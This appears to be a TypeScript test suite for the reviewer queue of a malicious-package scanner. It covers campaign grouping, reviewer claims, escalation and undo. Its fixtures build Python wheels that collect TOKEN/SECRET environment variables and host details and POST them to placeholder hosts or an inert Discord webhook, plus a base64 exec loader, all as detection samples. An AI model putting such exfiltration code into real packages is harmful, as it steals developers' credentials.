import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { packWheel } from '../../../scripts/pack-example.ts';
import { policySchema } from '../../../src/actions/policy.ts';
import type { ScanResult } from '../../../src/contracts/result.ts';
import { submit } from '../../../src/jobs/submit.ts';
import { scanBytes } from '../../../src/pipeline.ts';
import { decideCampaign, queueVerdict, type ReviewDecision, undo } from '../../../src/review/queue.ts';
import { assignCampaign, presentCampaign } from '../../../src/store/campaigns.ts';
import { claimCampaign, releaseClaim } from '../../../src/store/claims.ts';
import { currentDisposition } from '../../../src/store/dispositions.ts';
import { identifyDistribution } from '../../../src/store/distributions.ts';
import { findReviewItem, listQueue } from '../../../src/store/review-items.ts';
import { recordVerdict } from '../../../src/store/verdicts.ts';
import { openTestService, stageBytes, type TestService } from '../../support/service.ts';

const POLICY = policySchema.parse({ 'dry-run': false });

/** A wheel that sends the environment somewhere; its names differ from copy to copy. */
function sender(project: string, host: string, variable: string): Uint8Array {
  return wheel(
    project,
    `import os, socket, urllib.request
def ${variable}_collect():
    ${variable} = {}
    for key, value in os.environ.items():
        if 'TOKEN' in key or 'SECRET' in key:
            ${variable}[key] = value
    ${variable}['host'] = socket.gethostname()
    ${variable}['user'] = os.getlogin()
    request = urllib.request.Request('https://${host}/collect', data=str(${variable}).encode())
    urllib.request.urlopen(request, timeout=5).read()
${variable}_collect()
`,
  );
}

function runner(project: string): Uint8Array {
  const code = Buffer.from('print(1)').toString('base64');
  return wheel(project, `import base64\nexec(base64.b64decode('${code}'))\n`);
}

function wheel(project: string, source: string): Uint8Array {
  const info = `${project}-1.0.dist-info`;
  const files = {
    [`${project}/__init__.py`]: source,
    [`${info}/METADATA`]: `Metadata-Version: 2.1\nName: ${project}\nVersion: 1.0\n`,
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  };
  return packWheel(Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) })));
}

describe('the queue of reviewers', () => {
  let service: TestService;
  before(async () => {
    service = await openTestService({ policy: POLICY, worker: false });
  });
  after(() => service.close());

  const db = () => service.database.db;
  const context = () => ({ policy: POLICY, boss: service.queue.boss });
  const by = (actor: string, kind: ReviewDecision['kind'] = 'confirm'): ReviewDecision => ({
    kind,
    reasons: ['steals-secrets'],
    note: '',
    actor,
  });

  /** Scans in this process and writes what a worker would. */
  async function screened(
    project: string,
    bytes: Uint8Array,
  ): Promise<{ sha256: string; result: ScanResult }> {
    const filename = `${project}-1.0-py3-none-any.whl`;
    const staged = await stageBytes(service.vault, bytes);
    const claims = { uploader: null, url: null, project: null, version: null };
    await submit(service, staged, { filename, source: 'api', ...claims });
    const result = scanBytes(filename, filename, bytes);
    await db().transaction(async (tx) => {
      const verdict = await recordVerdict(tx, staged.sha256, result, null);
      await identifyDistribution(tx, staged.sha256, result.distribution);
      await queueVerdict(tx, verdict!, result);
    });
    return { sha256: staged.sha256, result };
  }

  it('shows near-identical distributions as one row, the gravest campaign first', async () => {
    for (const [project, host, variable] of [
      ['alpha', 'one.invalid', 'data'],
      ['beta', 'two.invalid', 'things'],
      ['gamma', 'three.invalid', 'x'],
    ] as const) {
      await screened(project, sender(project, host, variable));
    }
    await screened('delta', runner('delta'));
    const rows = await listQueue(db(), { state: 'open', limit: 10 });
    assert.deepEqual(rows.map(({ count, projects }) => [count, projects]).sort(), [
      [1, ['delta']],
      [3, ['alpha', 'beta', 'gamma']],
    ]);
    assert.ok(rows[0]!.harm >= rows[1]!.harm);
    const second = await listQueue(db(), { state: 'open', limit: 10, after: rows[0]! });
    assert.deepEqual(
      second.map(({ campaignId }) => campaignId),
      [rows[1]!.campaignId],
    );
  });

  it('is decided a campaign at a time, and taken back the same way', async () => {
    const row = (await listQueue(db(), { state: 'open', limit: 10 })).find(({ count }) => count === 3)!;
    const decisions = await db().transaction((tx) =>
      decideCampaign(tx, context(), row.campaignId, by('user:1')),
    );
    assert.equal(decisions.length, 3);
    for (const { sha256 } of decisions) {
      assert.equal((await currentDisposition(db(), sha256))?.disposition, 'refused');
      assert.equal((await findReviewItem(db(), sha256))?.state, 'closed');
    }
    assert.deepEqual(
      await db().transaction((tx) => decideCampaign(tx, context(), row.campaignId, by('user:1'))),
      [],
    );
    const undone = await db().transaction((tx) => undo(tx, context(), decisions, 'user:1'));
    assert.deepEqual(
      undone.map(({ kind, supersedes }) => [kind, supersedes]),
      decisions.map(({ id }) => ['reopen', id]),
    );
    for (const { sha256 } of decisions) {
      assert.equal((await currentDisposition(db(), sha256))?.disposition, 'held');
      assert.equal((await findReviewItem(db(), sha256))?.state, 'open');
    }
    // What has been superseded cannot be undone again.
    assert.deepEqual(await db().transaction((tx) => undo(tx, context(), decisions, 'user:1')), []);
  });

  it('keeps two reviewers from one campaign', async () => {
    const [row] = await listQueue(db(), { state: 'open', limit: 1 });
    const { campaignId } = row!;
    assert.notEqual(await claimCampaign(db(), campaignId, 'user:1'), null);
    assert.equal(await claimCampaign(db(), campaignId, 'user:2'), null);
    assert.equal((await listQueue(db(), { state: 'open', limit: 1 }))[0]?.claim?.actor, 'user:1');
    await assert.rejects(
      db().transaction((tx) => decideCampaign(tx, context(), campaignId, by('user:2'))),
      { code: 'claimed' },
    );
    await releaseClaim(db(), campaignId, 'user:2');
    assert.equal(await claimCampaign(db(), campaignId, 'user:2'), null);
    await releaseClaim(db(), campaignId, 'user:1');
    assert.notEqual(await claimCampaign(db(), campaignId, 'user:2'), null);
    await releaseClaim(db(), campaignId, 'user:2');
  });

  it('passes what is escalated on, and keeps what was decided when a later verdict comes', async () => {
    const { sha256, result } = await screened('epsilon', sender('epsilon', 'four.invalid', 'y'));
    const item = (await findReviewItem(db(), sha256))!;
    await db().transaction((tx) => decideCampaign(tx, context(), item.campaignId, by('user:1', 'escalate')));
    const [escalated] = await listQueue(db(), { state: 'escalated', limit: 10 });
    assert.deepEqual([escalated?.campaignId, escalated?.count], [item.campaignId, 4]);
    await db().transaction((tx) => decideCampaign(tx, context(), item.campaignId, by('user:2', 'dismiss')));
    const later = { ...result, engine: { ...result.engine, model: 'later' } };
    await db().transaction(async (tx) => {
      const verdict = await recordVerdict(tx, sha256, later, null);
      await queueVerdict(tx, verdict!, later);
    });
    assert.equal((await findReviewItem(db(), sha256))?.state, 'closed');
    assert.equal((await currentDisposition(db(), sha256))?.disposition, 'released');
  });

  it('makes one campaign of two when something resembles the one and reports to where the other does', async () => {
    const hook = `https://discord.com/api/webhooks/123456789012345678/${'abcdefghij'.repeat(6)}-inert_x`;
    const post = `import requests, os\nrequests.post('${hook}', json=dict(os.environ))\n`;
    const first = await screened('zeta', wheel('zeta', post));
    const second = await screened('eta', runner('eta'));
    const [one, two] = [await findReviewItem(db(), first.sha256), await findReviewItem(db(), second.sha256)];
    assert.notEqual(one?.campaignId, two?.campaignId);
    const third = await stageBytes(service.vault, Buffer.from('third'));
    const claims = { uploader: null, url: null, project: null, version: null };
    await submit(service, third, { filename: 'third-1.0.tar.gz', source: 'api', ...claims });
    const { fingerprint = null } = second.result;
    const { indicators } = first.result;
    const campaignId = await db().transaction((tx) =>
      assignCampaign(tx, { sha256: third.sha256, fingerprint, indicators }),
    );
    const [older, newer] = [one!.campaignId, two!.campaignId].sort((left, right) => left - right);
    assert.equal(campaignId, older);
    assert.equal(await presentCampaign(db(), newer!), older);
    for (const { sha256 } of [first, second]) {
      assert.equal((await findReviewItem(db(), sha256))?.campaignId, older);
    }
  });
});
